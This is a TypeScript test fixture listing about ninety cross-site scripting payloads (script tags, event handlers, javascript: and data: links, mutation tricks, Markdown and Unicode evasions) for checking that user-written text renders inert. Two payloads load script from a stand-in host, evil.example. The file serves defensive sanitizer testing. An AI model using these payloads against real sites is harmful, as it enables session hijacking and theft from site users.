/**
 * Cross-site scripting payloads as a speaker or organizer could type them into any
 * text field: Markdown, raw HTML and plain text. Every test of a page that shows
 * user-written text should render each one and find it inert (`alert(1)` is the marker).
 */
export const xssPayloads: readonly string[] = [
  // <script> in its spellings
  "<script>alert(1)</script>",
  "<SCRIPT>alert(1)</SCRIPT>",
  "<ScRiPt>alert(1)</sCrIpT>",
  '<script src="https://evil.example/x.js"></script>',
  "<script/xss src=//evil.example/x.js></script>",
  "<<script>alert(1)//<</script>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "Hello **world** <script>alert(1)</script> bye",
  "> quoted <script>alert(1)</script>",

  // Event handlers on harmless-looking elements
  "<img src=x onerror=alert(1)>",
  '<IMG SRC=x ONERROR="alert(1)">',
  "<img src=x:alert(1) onerror=eval(src)>",
  '<img """><script>alert(1)</script>">',
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">click</text></a></svg>',
  "<body onload=alert(1)>",
  "<input onfocus=alert(1) autofocus>",
  '<video><source onerror="alert(1)"></video>',
  '<div onpointerover="alert(1)">hover me</div>',
  "<x onclick=alert(1)>click",
  '<a href="https://ok.example" onclick="alert(1)">ok</a>',
  '**bold** <b onmouseover="alert(1)">hover</b> *em*',

  // Frames, plugins and other active elements
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
  '<form action="javascript:alert(1)"><button>go</button></form>',
  '<button formaction="javascript:alert(1)">go</button>',
  '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">click</maction></math>',
  '<math href="javascript:alert(1)">click</math>',
  "<details open ontoggle=alert(1)>",
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="javascript:alert(1)//">',
  '<link rel="stylesheet" href="javascript:alert(1)">',
  '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',

  // HTML links with obfuscated schemes
  '<a href="javascript:alert(1)">click</a>',
  '<a href="JaVaScRiPt:alert(1)">click</a>',
  '<a href="jav&#x09;ascript:alert(1)">click</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">click</a>',
  '<a href=" &#14;  javascript:alert(1)">click</a>',
  '<a href="vbscript:msgbox(1)">click</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>',

  // Styles
  '<style>body{background:url("javascript:alert(1)")}</style>',
  '<div style="width: expression(alert(1))">x</div>',
  '<p style="background-image:url(javascript:alert(1))">x</p>',

  // Mutation XSS and comments
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  "<template><img src=x onerror=alert(1)></template>",
  "<!-- <img src=x onerror=alert(1)> -->",
  "<!--><img src=x onerror=alert(1)>-->",
  "<textarea></textarea><img src=x onerror=alert(1)>",

  // Markdown links and images
  "[click](javascript:alert(1))",
  "[click](JaVaScRiPt:alert(1))",
  "[click](<java\tscript:alert(1)>)",
  "[click](&#106;avascript:alert(1))",
  "[click](&#x6A;avascript&#x3A;alert(1))",
  "[click](javascript&colon;alert(1))",
  "[click](javascript://%0aalert(1))",
  '[click](javascript:alert(1) "title")',
  "[click](   javascript:alert(1))",
  "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "[click](vbscript:msgbox(1))",
  "[click](<\u0001javascript:alert(1)>)",
  '[click](https://ok.example "x\\" onmouseover=\\"alert(1)")',
  "[<img src=x onerror=alert(1)>](https://ok.example)",
  "- item [click](javascript:alert(1))",
  "![pic](javascript:alert(1))",
  '![pic](https://ok.example/x.png "t\\" onerror=\\"alert(1)")',
  "![pic](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",

  // Reference-style links and autolinks
  "[click][xss]\n\n[xss]: javascript:alert(1)",
  '[click]\n\n[click]: <javascript:alert(1)> "title"',
  "![pic][xss]\n\n[xss]: javascript:alert(1)",
  "<javascript:alert(1)>",
  "<JAVASCRIPT:alert(1)>",
  "<vbscript:msgbox(1)>",
  "<data:text/html,<script>alert(1)</script>>",

  // Code must stay text
  "```html\n<script>alert(1)</script>\n```",
  "`<img src=x onerror=alert(1)>`",

  // Unicode tricks
  "[click](javascript\u200b:alert(1))",
  "[click](\ufeffjavascript:alert(1))",
  "[click](\u202ejavascript:alert(1))",
  "[click](java\u0000script:alert(1))",
  "[click](ｊａｖａｓｃｒｉｐｔ:alert(1))",
  "<ｓｃｒｉｐｔ>alert(1)</ｓｃｒｉｐｔ>",
  "＜script＞alert(1)＜/script＞",
  "<img src=x onerror=\u0061lert(1)>",
  '<a href="java\u0000script:alert(1)">click</a>',
];
